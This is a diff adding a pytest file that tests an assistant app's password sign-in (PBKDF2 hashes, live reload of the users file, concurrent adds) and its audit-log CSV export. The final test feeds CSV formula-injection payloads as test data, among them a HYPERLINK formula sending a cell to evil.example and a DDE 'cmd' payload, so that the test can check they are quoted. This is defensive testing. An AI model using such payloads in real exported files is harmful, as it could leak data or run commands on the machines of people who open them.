@@ -1,0 +1,115 @@
+"""Sign-in users and the audit export, tested on their own (no index, no model)."""
+
+import csv
+import io
+import os
+import threading
+import time
+
+import pytest
+
+from assistant.errors import ConfigError
+from assistant.present import auth
+from assistant.present.audit import AuditLog
+from assistant.present.auth import add_user, checker, hash_password, read_users, verify_password
+from assistant.records import Answer
+
+FAST = 1_000  # PBKDF2 iterations for test users: the real 600,000 take a second each
+
+
+def write_users(path, **passwords):
+    path.write_text("".join(f"{name}:{hash_password(pw, FAST)}\n" for name, pw in passwords.items()))
+
+
+def touch_later(path):
+    """Move the file's modification time on, as a later edit would, however coarse the file system's clock."""
+    stamp = path.stat()
+    os.utime(path, ns=(stamp.st_atime_ns, stamp.st_mtime_ns + 2_000_000_000))
+
+
+def test_a_reset_password_or_a_removed_user_counts_without_a_restart(tmp_path):
+    users = tmp_path / "users.txt"
+    write_users(users, alice="old password", bob="bobs password")
+    check = checker(users)
+    assert check("alice", "old password") and check("bob", "bobs password")
+
+    write_users(users, alice="new password", bob="bobs password")
+    touch_later(users)
+    assert check("alice", "new password") and not check("alice", "old password")
+
+    write_users(users, alice="new password")
+    touch_later(users)
+    assert not check("bob", "bobs password") and check("alice", "new password")
+
+
+def test_a_users_file_that_breaks_while_serving_lets_nobody_in_until_mended(tmp_path):
+    users = tmp_path / "users.txt"
+    write_users(users, alice="a password")
+    check = checker(users)
+    users.unlink()
+    assert not check("alice", "a password")
+    write_users(users, alice="a password")
+    assert check("alice", "a password")
+
+
+@pytest.mark.parametrize("stored, problem", [
+    ("pbkdf2_sha256$600k$00ff$" + "00" * 32, "iterations"),
+    ("pbkdf2_sha256$0$00ff$" + "00" * 32, "iterations"),
+    ("pbkdf2_sha256$600000$zz$" + "00" * 32, "salt"),
+    ("pbkdf2_sha256$600000$$" + "00" * 32, "salt"),
+    ("pbkdf2_sha256$600000$00ff$00", "digest"),
+    ("pbkdf2_sha256$600000$00ff", "pbkdf2_sha256$ITERATIONS$SALT$DIGEST"),
+])
+def test_a_damaged_hash_is_named_by_line_when_read_and_refused_when_signing_in(tmp_path, stored, problem):
+    users = tmp_path / "users.txt"
+    users.write_text(f"# app users\nalice:{hash_password('a password', FAST)}\nbob:{stored}\n")
+    with pytest.raises(ConfigError) as raised:
+        read_users(users)
+    assert f"{users}:3" in raised.value.message and problem in raised.value.message
+    assert "assistant user add bob" in raised.value.hint
+    assert verify_password("anything", stored) is False
+
+
+def test_user_add_mends_the_damaged_line_it_replaces_and_names_anyone_elses(tmp_path):
+    users = tmp_path / "users.txt"
+    users.write_text("bob:pbkdf2_sha256$600k$00ff$00\n")
+    add_user(users, "bob", "a new password")
+    assert verify_password("a new password", read_users(users)["bob"])
+    users.write_text("bob:pbkdf2_sha256$600k$00ff$00\n")
+    with pytest.raises(ConfigError, match=f"{users}:1"):
+        add_user(users, "carol", "another password")
+
+
+def test_users_added_at_the_same_time_are_all_kept(tmp_path, monkeypatch):
+    slow_write = auth.write_atomically
+
+    def write_after_a_pause(*args, **kwargs):  # widens the gap between reading the file and writing it back
+        time.sleep(0.2)
+        return slow_write(*args, **kwargs)
+
+    monkeypatch.setattr(auth, "write_atomically", write_after_a_pause)
+    monkeypatch.setattr(auth, "hash_password", lambda password: hash_password(password, FAST))
+    users = tmp_path / "users.txt"
+    names = [f"member{n}" for n in range(4)]
+    threads = [threading.Thread(target=add_user, args=(users, name, "a long password")) for name in names]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert sorted(read_users(users)) == names
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(tmp_path):
+    log = AuditLog(tmp_path / "audit.sqlite")
+    questions = ['=HYPERLINK("http://evil.example/?"&A1,"Click for sources")', "+1+1", "-2+3", "@SUM(A1)",
+                 "\tindented", "\rreturned", "How many children left care?"]
+    try:
+        for question in questions:
+            log.record_answer(Answer(question, "-1 was the change.", True, "not_stated", "extractive"), {}, "v1",
+                              "app", user="=cmd|' /C calc'!A0")
+        rows = list(csv.DictReader(io.StringIO(log.export("csv"))))
+    finally:
+        log.close()
+    assert [r["question"] for r in rows] == ["'" + q for q in questions[:-1]] + [questions[-1]]
+    assert all(r["answer"] == "'-1 was the change." and r["user"] == "'=cmd|' /C calc'!A0" for r in rows)
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
